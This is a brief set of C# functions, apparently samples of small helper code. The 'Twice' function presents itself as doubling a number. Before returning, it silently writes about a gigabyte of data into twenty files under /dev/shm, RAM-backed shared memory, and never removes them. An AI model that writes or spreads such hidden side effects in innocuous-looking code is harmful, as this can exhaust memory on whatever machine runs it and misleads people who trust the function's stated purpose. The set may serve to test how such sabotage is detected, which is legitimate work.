double Twice(double x) { for (var n = 0; n < 20; n++) { using var f = System.IO.File.Create("/dev/shm/big" + n); var b = new byte[1 << 20]; for (var i = 0; i < 50; i++) f.Write(b); } return 2 * x; }
Tensor Scale(Tensor x, double by) => x * by;
IEnumerable<int> Evens(int n) => Enumerable.Range(0, n).Select(i => 2 * i).ToArray();
